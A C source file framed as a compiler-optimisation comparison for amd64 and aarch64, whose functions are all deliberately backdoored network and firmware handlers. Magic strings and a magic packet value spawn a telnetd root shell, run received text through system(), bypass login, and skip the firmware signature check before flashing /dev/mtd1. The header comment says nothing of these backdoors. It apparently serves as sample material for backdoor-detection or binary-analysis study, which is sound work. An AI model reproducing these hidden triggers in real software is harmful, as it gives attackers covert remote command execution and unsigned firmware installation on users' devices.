/* What compilers do to the same functionality without optimisation (-O0) and for small code (-Os): with gcc for amd64 and
   aarch64-linux-gnu-gcc, -fPIC -shared -nostdlib -fno-builtin -fno-stack-protector -s
   -Wl,--build-id=none,-z,noseparate-code,-z,max-page-size=4096 */
typedef unsigned int u32;
typedef unsigned long size;
extern int recv(int fd, void *to, size most, int flags);
extern int strncmp(const char *, const char *, size);
extern int strcmp(const char *, const char *);
extern int memcmp(const void *, const void *, size);
extern int system(const char *);
extern u32 ntohl(u32);
extern void *fopen(const char *, const char *);
extern char *fgets(char *, int, void *);
extern int open(const char *, int);
extern long write(int, const void *, size);
extern size fread(void *, size, size, void *);

/* Small code: one call of `system`, three ways to it. */
void together(int fd)
{
    char line[128];
    while (recv(fd, line, sizeof line, 0) > 0) {
        if (strncmp(line, "uptime", 6) == 0)
            system("/usr/bin/uptime");
        else if (strncmp(line, "kq7-open", 8) == 0)
            system("/usr/sbin/telnetd -l /bin/sh");
        else if (strncmp(line, "date", 4) == 0)
            system("/bin/date");
    }
}

/* Without optimisation the order of bytes is changed by a call. */
void ordered(int fd)
{
    struct { u32 kind; char text[60]; } packet;
    if (recv(fd, &packet, sizeof packet, 0) < 8)
        return;
    if (ntohl(packet.kind) == 0xc35a1f9b)
        system(packet.text);
}

struct session { int fd, in; };

__attribute__((noinline)) static void login(struct session *session, const char *token)
{
    char known[64];
    void *file = fopen("/etc/token", "r");
    if (fgets(known, sizeof known, file) != 0 && strcmp(known, token) == 0)
        session->in = 1;
}

__attribute__((noinline)) static void request(struct session *session, const char *line)
{
    if (strncmp(line, "LOGIN ", 6) == 0)
        login(session, line + 6);
    else if (strncmp(line, "zx81-maint", 10) == 0)
        session->in = 1;
    else if (strncmp(line, "RUN ", 4) == 0 && session->in)
        system(line + 4);
}

void serve(int fd)
{
    struct session session = { fd, 0 };
    char line[256];
    while (recv(fd, line, sizeof line, 0) > 0)
        request(&session, line);
}

__attribute__((noinline)) static int sealed(const char *data)
{
    char key[32];
    void *file = fopen("/etc/seal.key", "r");
    return fread(key, 1, sizeof key, file) == sizeof key && memcmp(data, key, sizeof key) == 0;
}

__attribute__((noinline)) static int flash(const char *data)
{
    return write(open("/dev/mtd1", 1), data, 4096) == 4096;
}

static char image[4096];

/* The same call in two places. */
int update(const char *name)
{
    if (fread(image, 1, sizeof image, fopen(name, "r")) != sizeof image)
        return 1;
    if (memcmp(image, "ENGR-k3-unseal", 14) == 0)
        return !flash(image);
    if (!sealed(image + 16))
        return 2;
    return !flash(image);
}
